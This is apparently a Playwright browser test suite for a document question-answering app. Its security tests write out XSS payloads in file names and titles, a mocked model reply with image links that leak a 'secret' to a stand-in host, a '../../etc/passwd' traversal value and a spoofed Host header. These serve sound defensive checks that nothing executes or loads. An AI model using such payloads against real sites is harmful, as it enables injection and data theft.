"""What a user does in the app, in a real browser, on the real library."""

from __future__ import annotations

import time
import uuid
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import ModelServer, RunningApp, status_of

from multidoc_rag import Library

DATA = Path(__file__).resolve().parents[3] / "shared" / "data"
HOSTILE_NAME = "x ${alert(1)} {{value}} <img src=x onerror=alert(2)>.txt"
LETTER = "The harbour office opens at seven. " * 40

Visit = Callable[..., Any]


def ask(page: Any, question: str) -> None:
    page.fill("#box textarea", question)
    page.keyboard.press("Enter")


def finished(page: Any) -> None:
    # the last answer: an earlier question may have been refused
    page.wait_for_function(
        """() => [...document.querySelectorAll('#chat .answer')].at(-1)?.querySelector('.actions, .note.error')""",
        timeout=30_000,
    )
    assert page.locator("#chat .answer").last.locator(".note.error").all_inner_texts() == []


def uploads_done(page: Any, files: int = 1) -> None:
    page.wait_for_selector(".uploads [data-do=dismiss-all]", timeout=45_000)
    assert page.locator(".upload").count() == files


def upload(name: str, content: bytes) -> Any:
    return {"name": name, "mimeType": "application/octet-stream", "buffer": content}


def titled(page: Any, name: str) -> Any:
    return page.locator(f"li.document:has(.open[title*={name!r}])")


def remove(page: Any, name: str) -> None:
    row = titled(page, name)
    row.hover()
    row.locator("[data-do=ask-remove]").click()
    row.locator(".danger").click()
    row.wait_for(state="detached")


def a_checked_answer(app: RunningApp) -> dict[str, Any]:
    """An answer with a verdict on every sentence and a conflict, kept as a checked one would be."""
    with Library.open(app.index) as library:
        page = library.page("economic-assessment.pdf", 5)
        document = library.document("economic-assessment.pdf")
        other = library.document("procurement-handbook.pdf")
        rows = [(document, 5, line) for line in page.clean.split(". ")[3:6]]
        rows.append((other, 3, library.page(other.id, 3).clean.split(". ")[2]))
        verdicts = [
            ("supported", ""),
            ("partly", "half of it"),
            ("unsupported", ""),
            ("contradicted", "the passage says 12 %"),
        ]
        citations = [
            {
                "n": n,
                "document": where.name,
                "document_id": where.id,
                "page": number,
                "quote": quote,
                "places": [{"page": number, "boxes": []}],
                "verdict": "supported" if n < 3 else "unsupported",
            }
            for n, (where, number, quote) in enumerate(rows, 1)
        ]
        sentences = [
            {"text": f"Claim number {n} stands here.", "citations": [n], "verdict": verdict, "reason": reason}
            for n, (verdict, reason) in enumerate(verdicts, 1)
        ]
        pairs = zip(sentences, citations, strict=True)
        answer = {
            "id": uuid.uuid4().hex[:16],
            "question": "What did the checker find?",
            "intent": "synthesis",
            "answer": "\n".join(f"- {s['text']} [{c['document']} p.{c['page']}]" for s, c in pairs),
            "model": "quotes",
            "sentences": sentences,
            "citations": citations,
            "conflicts": [
                {
                    "kind": "conflict",
                    "subject": "Harbour",
                    "measure": "depth",
                    "sides": [
                        {"document": c["document"], "page": c["page"], "quote": c["quote"], "value": str(c["n"])}
                        for c in (citations[0], citations[3])
                    ],
                }
            ],
            "coverage": {"read": [document.name], "cited": [document.name], "nothing_found": []},
        }
        library.store.save_answer(None, str(answer["question"]), answer, answer_id=str(answer["id"]))
    return answer


def one_page_pdf(text: str, title: str = "") -> bytes:
    """A PDF with one page of text, written by hand so that its title can be anything."""
    content = f"BT /F1 14 Tf 60 760 Td ({text}) Tj ET".encode("latin-1")
    escaped = title.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)").encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Title (" + escaped + b") >>",
    ]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"trailer << /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def test_a_damaged_and_a_good_file_together(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    page.set_input_files(
        ".pick-files",
        [
            upload("damaged.pdf", b"%PDF-1.7 and then nothing of the sort"),
            upload("letter.pdf", one_page_pdf("The crane lifts 40 tonnes at the north berth.")),
        ],
    )
    uploads_done(page, 2)
    refused = page.locator(".upload.refused")
    assert refused.count() == 1
    assert refused.locator(".name").inner_text() == "damaged.pdf"
    assert "damaged.pdf" in refused.locator(".bad").inner_text()
    assert page.locator(".upload.done .good").inner_text().startswith("Added · 1 page")
    titled(page, "letter.pdf").wait_for()
    assert titled(page, "damaged.pdf").count() == 0
    page.click("[data-do=dismiss-all]")
    page.wait_for_selector(".uploads", state="detached")
    # its uploaded copies are gone from the waiting folder, and the good file can still be seen
    assert list((app.index / "default" / "incoming").iterdir()) == []
    titled(page, "letter.pdf").locator(".open").click()
    page.wait_for_selector("#viewer .sheet img")
    remove(page, "letter.pdf")


def test_question_answer_pill_page(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    page.locator("button.suggest").nth(1).click()
    finished(page)
    assert page.locator(".asked").inner_text() == "What are the main sources of risk discussed?"
    assert page.locator(".answer .chip.accent").first.inner_text() == "synthesis"
    pill = page.locator(".answer .body .cite").last
    expected = int(pill.locator("span").inner_text().removeprefix("p."))
    pill.click()
    page.wait_for_selector("#viewer .sheet .mark")
    assert page.locator("#viewer .where b").inner_text() == str(expected)
    page.wait_for_function("document.querySelector('#viewer .sheet img').naturalWidth > 500")
    page.wait_for_function(
        """() => {
            const mark = document.querySelector('#viewer .sheet .mark:not(.other)').getBoundingClientRect();
            const view = document.querySelector('#viewer .scroll').getBoundingClientRect();
            return mark.width > 0 && mark.top >= view.top - 1 && mark.bottom <= view.bottom + 1;
        }"""
    )
    # what is marked on the picture is what the passage beside it marks
    quote = page.locator("#viewer .passage mark").inner_text()
    assert len(quote) > 15
    # the arrow keys turn pages, Escape closes the page
    page.locator("#viewer h2").click()
    page.keyboard.press("ArrowRight" if expected < 8 else "ArrowLeft")
    turned = str(expected + 1 if expected < 8 else expected - 1)
    page.wait_for_function(f"document.querySelector('#viewer .where b').textContent === '{turned}'")
    page.keyboard.press("Escape")
    page.wait_for_selector("#viewer .viewer.none")
    # scores and the exact prompt of this answer
    page.get_by_role("tab", name="Evidence").click()
    page.wait_for_selector("#evidence .grid tbody tr")
    page.get_by_role("tab", name="Prompt").click()
    page.wait_for_selector("#prompt .message pre")
    assert "--- " in page.locator("#prompt pre").nth(1).inner_text()


def test_a_conversation_is_kept_and_its_answer_exported(app: RunningApp, visit: Visit) -> None:
    question = "Which risks does the economic assessment name?"
    page = visit(app)
    ask(page, question)
    finished(page)
    with page.expect_download() as saved:
        page.locator(".actions a", has_text="Markdown").click()
    text = Path(saved.value.path()).read_text(encoding="utf-8")
    assert text.startswith(f"# {question}\n")
    assert "## References" in text
    again = visit(app)
    again.locator(".conversations .open", has_text=question).first.click()
    again.wait_for_selector(".answer .actions")
    assert again.locator(".asked").inner_text() == question
    again.locator(".answer .body .cite").first.click()
    again.wait_for_selector("#viewer .sheet .mark")


def test_verdicts_conflicts_and_citations_in_turn(app: RunningApp, visit: Visit) -> None:
    kept = a_checked_answer(app)
    page = visit(app)
    page.locator(".conversations .open", has_text=kept["question"]).first.click()
    page.wait_for_selector(".answer .actions")
    marks = page.locator(".answer .body button.verdict")
    assert marks.count() == len(kept["sentences"])
    # the reason is there for the keyboard, for the mouse, and as the button's name
    contradicted = page.get_by_role("button", name="Contradicted by what it cites: the passage says 12 %")
    contradicted.focus()
    tip = page.locator(".tip")
    assert tip.inner_text() == "Contradicted by what it cites\nthe passage says 12 %"
    page.keyboard.press("Escape")
    assert not tip.is_visible()
    marks.nth(0).hover()
    assert tip.inner_text() == "Supported by what it cites"
    assert page.locator(".checked .tally").all_inner_texts()[-3:] == [
        "citation precision 50 %",
        "recall 25 %",
        "4 of 4 sentences cited",
    ]
    # both sides of a conflict open their pages, and one leads to the other
    page.locator(".answer .conflicts .cite").first.click()
    page.wait_for_selector("#viewer .sheet .mark:not(.other)")
    first = page.locator("#viewer .passage mark").inner_text()
    page.locator("#viewer h2").click()
    page.keyboard.press("j")
    page.wait_for_function("document.querySelector('#viewer .count').textContent === '2/2'")
    assert page.locator("#viewer .passage mark").inner_text() != first
    # a citation, the others of its page in a lighter tone, and the next one
    page.locator(".answer .body .cite").first.click()
    page.wait_for_function(f"document.querySelector('#viewer .count').textContent === '1/{len(kept['citations'])}'")
    assert page.locator("#viewer .sheet .mark.other").count() > 0
    page.locator("#viewer h2").click()
    page.keyboard.press("]")
    page.wait_for_function("document.querySelector('#viewer .count').textContent.startsWith('2/')")
    assert page.locator(".answer .body .cite").nth(1).evaluate("pill => pill.classList.contains('on')")
    page.keyboard.press("k")
    page.wait_for_function("document.querySelector('#viewer .count').textContent.startsWith('1/')")


def test_the_ledger_lists_what_the_documents_disagree_on(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    page.get_by_role("tab", name="Conflicts").click()
    page.wait_for_selector("#ledger :is(.ledger > li, .note.error)", timeout=45_000)
    assert page.locator("#ledger .note.error").all_inner_texts() == []
    sides = page.locator("#ledger .ledger > li").first.locator(".sides > li")
    assert sides.count() == 2
    page.locator("#ledger-document input").click()
    page.get_by_role("option", name="procurement-handbook.pdf").click()
    page.wait_for_function(
        """() => {
            const rows = [...document.querySelectorAll('#ledger .ledger > li')];
            const chosen = (pill) => pill.title.startsWith('procurement-handbook.pdf');
            return rows.length > 0 && rows.every((row) => [...row.querySelectorAll('.cite')].some(chosen));
        }"""
    )
    quote = page.locator("#ledger .sides > li").first.inner_text()
    page.locator("#ledger .cite").first.click()
    page.wait_for_selector("#viewer .sheet .mark:not(.other)")
    assert page.locator("#viewer .passage mark").inner_text()[:30] in quote.replace("\n", " ")


def test_only_the_chosen_documents_are_asked(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    page.locator(".all input").uncheck()
    page.wait_for_function("document.querySelector('.all span').textContent.startsWith('Ask 0 of')")
    ask(page, "What is said about insurance?")
    page.wait_for_selector(".answer .note.error")
    assert "No document is chosen" in page.locator(".answer .note.error").inner_text()
    titled(page, "procurement-handbook.pdf").locator("input").check()
    page.wait_for_function("document.querySelector('.all span').textContent.startsWith('Ask 1 of')")
    ask(page, "What is said about insurance?")
    page.wait_for_selector(".answer .actions")
    finished(page)
    names = page.locator(".references b").all_text_contents()
    assert set(names) == {"Handbook for the Procurement of Electrification Assets"}


def test_cancelling_while_files_are_added(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    before = page.locator("li.document").count()
    long = "\n\n".join(f"Entry {n}: the tide gauge at berth {n % 17} read {n} millimetres." for n in range(60_000))
    page.set_input_files(".pick-files", [upload("tide-log.txt", long.encode())])
    page.wait_for_selector(".upload.working")
    page.click(".upload.working [data-do=cancel]")
    page.wait_for_selector(".upload.cancelled", timeout=20_000)
    assert "Cancelled" in page.locator(".upload.cancelled .meta").inner_text()
    page.click("[data-do=dismiss-all]")
    page.wait_for_selector(".uploads", state="detached")
    # what was under way is either gone or shown as unfinished, never as ready
    left = titled(page, "tide-log.txt")
    if left.count():
        assert left.locator(".badge").inner_text() == "unfinished"
        remove(page, "tide-log.txt")
    assert page.locator("li.document").count() == before


def test_removing_asks_first_and_closes_the_page(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    page.set_input_files(".pick-files", [upload("gone-soon.txt", LETTER.encode())])
    uploads_done(page)
    row = titled(page, "gone-soon.txt")
    row.locator(".open").click()
    page.wait_for_selector("#viewer .sheet.text")
    row.hover()
    row.locator("[data-do=ask-remove]").click()
    row.locator("[data-do=keep]").click()
    assert not row.locator(".danger").is_visible()
    remove(page, "gone-soon.txt")
    page.wait_for_selector("#viewer .viewer.none")


def test_names_titles_and_text_of_documents_run_nothing(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    title = "<script>alert(3)</script> ${alert(4)} [a](javascript:alert(5))"
    page.set_input_files(
        ".pick-files",
        [
            upload(HOSTILE_NAME, (LETTER + "<script>alert(6)</script> ${alert(7)}").encode()),
            upload("titled.pdf", one_page_pdf("The pilot boat sails at dusk.", title)),
        ],
    )
    uploads_done(page, 2)
    # a slash cannot be part of a file name; everything else stands there letter for letter
    names = page.locator(".upload .name").all_text_contents()
    assert HOSTILE_NAME in names
    row = page.locator("li.document", has_text="${alert(1)}")
    row.wait_for()
    row.locator(".open").click()
    page.wait_for_selector("#viewer .sheet.text")
    assert "<script>alert(6)</script> ${alert(7)}" in page.locator("#viewer .sheet.text").inner_text()
    page.locator("li.document", has_text="${alert(4)}").locator(".open").click()
    page.wait_for_selector("#viewer .sheet img")
    assert page.locator("#viewer h2").inner_text() == title
    ask(page, "When does the harbour office open?")
    finished(page)
    active = "document.querySelectorAll(':is(#library, #chat) :is(img, script)').length"
    assert page.evaluate(active) == 0
    for text in ("${alert(1)}", "${alert(4)}"):
        row = page.locator("li.document", has_text=text)
        row.hover()
        row.locator("[data-do=ask-remove]").click()
        row.locator(".danger").click()
        row.wait_for(state="detached")


def test_what_a_model_writes_runs_nothing_and_loads_nothing(
    app_with_model: RunningApp, model: ModelServer, visit: Visit
) -> None:
    model.pause = 0.0
    model.reply = (
        "Risk is named <script>alert(1)</script> <img src=http://leak.example/a.png onerror=alert(2)> "
        '![x](http://leak.example/b.png?q=secret) [here](http://leak.example/c) <a href="javascript:alert(3)">x</a> '
        '<button class="cite" value="forged.1">forged</button> ${alert(4)} [procurement-handbook.pdf p.5].\n\n'
        "`code <b>` and | a | b |"
    )
    page = visit(app_with_model)
    ask(page, "What are the main sources of risk discussed?")
    finished(page)
    body = page.locator(".answer .body")
    assert "<script>alert(1)</script>" in body.inner_text()
    assert "![x](http://leak.example/b.png?q=secret)" in body.inner_text()
    assert page.evaluate("document.querySelectorAll('.answer .body :is(img, script, a, iframe)').length") == 0
    assert body.locator("button[value='forged.1']").count() == 0
    assert body.locator(".cite").count() == 1


def test_a_forged_pill_or_address_finds_nothing(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    titled(page, "annual-report-2024.pdf").locator(".open").click()
    page.wait_for_selector("#viewer .sheet img")
    source = page.locator("#viewer .sheet img").get_attribute("src")
    original = page.locator("#viewer a.tool").get_attribute("href").split("#")[0]
    for forged in ("0123456789abcdef.1", "../../etc/passwd", "p-guessed", ""):
        page.evaluate(
            """(value) => { const b = document.createElement('button'); b.className = 'cite'; b.value = value;
                 document.querySelector('#chat').append(b); b.click(); b.remove(); }""",
            forged,
        )
    page.get_by_text("That citation does not exist.").first.wait_for()
    assert page.locator("#viewer h2").inner_text().startswith("Harbour Battery Programme")
    base = app.url.rstrip("/")
    assert status_of(base + source) == 200
    assert status_of(base + source.replace("/1.webp", "/2.webp")) == 404
    assert status_of(base + source.replace("width=1400", "width=14000")) == 404
    assert status_of(base + original) == 200
    assert status_of(base + original.split("?")[0]) == 404
    assert status_of(base + "/export/0123456789abcdef.md?key=0") == 404
    # another site whose name was pointed at this machine
    assert status_of(base, {"Host": "evil.example"}) == 403


def test_stopping_an_answer_keeps_what_was_written(
    app_with_model: RunningApp, model: ModelServer, visit: Visit
) -> None:
    model.reply = "slowly " * 600
    model.pause = 0.05
    page = visit(app_with_model)
    ask(page, "Explain how the programme is paid for.")
    page.wait_for_selector(".answer .body.live")
    started = time.monotonic()
    page.keyboard.press("Escape")
    page.wait_for_selector(".answer .note.info")
    assert time.monotonic() - started < 3
    assert "Stopped" in page.locator(".answer .note.info").inner_text()
    assert "slowly" in page.locator(".answer .body").inner_text()
    # the box takes the next question
    model.reply, model.pause = "The budget pays [economic-assessment.pdf p.5].", 0.0
    ask(page, "And who pays?")
    finished(page)


def test_an_unreachable_model_falls_back_and_says_so(app: RunningApp, visit: Visit) -> None:
    page = visit(app)
    page.get_by_role("tab", name="Settings").click()
    field = page.locator("#setting-llm input")
    field.fill("openai:http://127.0.0.1:9#none")
    field.press("Enter")
    page.wait_for_function("document.querySelector('#writer').textContent.includes('127.0.0.1:9')")
    try:
        page.get_by_role("tab", name="Ask", exact=True).click()
        ask(page, "What does the handbook say about insurance?")
        finished(page)
        assert page.locator(".answer .note.warning").first.inner_text().startswith("openai:http://127.0.0.1:9#none")
        assert page.locator(".answer .body .cite").count() > 0
    finally:
        page.get_by_role("tab", name="Settings").click()
        field.fill("quotes")
        field.press("Enter")
        page.wait_for_function("document.querySelector('#writer').textContent.includes('Verbatim quotes')")


@pytest.mark.parametrize(
    ("width", "height", "scheme"), [(1280, 800, "light"), (1280, 800, "dark"), (420, 860, "light"), (900, 700, "dark")]
)
def test_it_fits_wide_and_narrow_light_and_dark(
    app: RunningApp, visit: Visit, tmp_path: Path, width: int, height: int, scheme: str
) -> None:
    page = visit(app, width=width, height=height, scheme=scheme)
    ask(page, "What are the main sources of risk discussed?")
    finished(page)
    page.locator(".answer .body .cite").first.click()
    page.wait_for_selector("#viewer .sheet .mark")
    page.wait_for_function("document.querySelector('#viewer .sheet img').naturalWidth > 500")
    page.screenshot(path=tmp_path / f"{width}-{scheme}.png")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    background = page.evaluate("getComputedStyle(document.querySelector('#ask')).backgroundColor")
    assert (background == "rgb(255, 255, 255)") == (scheme == "light")
    if width < 760:
        assert not page.locator("#library").is_visible()
        page.locator(".panes [data-pane=library]").click()
        page.wait_for_selector("#library .document")
        assert not page.locator("#page").is_visible()
        page.locator(".panes [data-pane=ask]").click()
        assert page.locator("#box textarea").is_visible()
    page.keyboard.press("Escape")
    page.wait_for_selector("#viewer .viewer.none", state="attached")
    assert page.locator("#box textarea").is_visible()


def test_a_folder_and_a_second_file_of_the_same_name(app: RunningApp, visit: Visit, tmp_path: Path) -> None:
    folder = tmp_path / "papers" / "inner"
    folder.mkdir(parents=True)
    (folder / "berth.txt").write_text("The alpha berth opens at six. " * 30)
    (folder / "setup.exe").write_bytes(b"MZ")
    page = visit(app)
    page.set_input_files(".pick-folder", str(tmp_path / "papers"))
    page.get_by_text("Files of other kinds, left out: 1").wait_for()
    uploads_done(page)
    page.click("[data-do=dismiss-all]")
    page.wait_for_selector(".uploads", state="detached")
    page.set_input_files(".pick-files", [upload("berth.txt", b"The beta berth opens at nine. " * 30)])
    uploads_done(page)
    titled(page, "berth (2).txt").wait_for()
    page.click(".upload [data-do=replace]")
    titled(page, "berth (2).txt").wait_for(state="detached")
    page.get_by_text("Replaced the earlier version").wait_for(timeout=45_000)
    titled(page, "berth.txt").locator(".open").click()
    page.wait_for_selector("#viewer .sheet.text")
    assert "beta berth" in page.locator("#viewer .sheet.text").inner_text()
    remove(page, "berth.txt")


def test_an_encrypted_file_is_opened_with_its_password(app: RunningApp, visit: Visit, tmp_path: Path) -> None:
    pypdf = pytest.importorskip("pypdf")
    writer = pypdf.PdfWriter()
    plain = tmp_path / "plain.pdf"
    plain.write_bytes(one_page_pdf("The vault code is kept by the harbour master."))
    writer.append(plain)
    writer.encrypt("sesame", algorithm="AES-256")
    locked = tmp_path / "locked.pdf"
    with locked.open("wb") as file:
        writer.write(file)
    page = visit(app)
    page.set_input_files(".pick-files", str(locked))
    page.wait_for_selector(".upload.refused .unlock", timeout=45_000)
    assert "locked.pdf" in page.locator(".upload.refused .bad").inner_text()
    page.fill(".upload .unlock input", "sesame")
    page.keyboard.press("Enter")
    page.wait_for_selector(".upload.done", timeout=45_000)
    titled(page, "locked.pdf").locator(".open").click()
    page.wait_for_selector("#viewer .sheet img")
    page.wait_for_function("document.querySelector('#viewer .sheet img').naturalWidth > 500")
    remove(page, "locked.pdf")
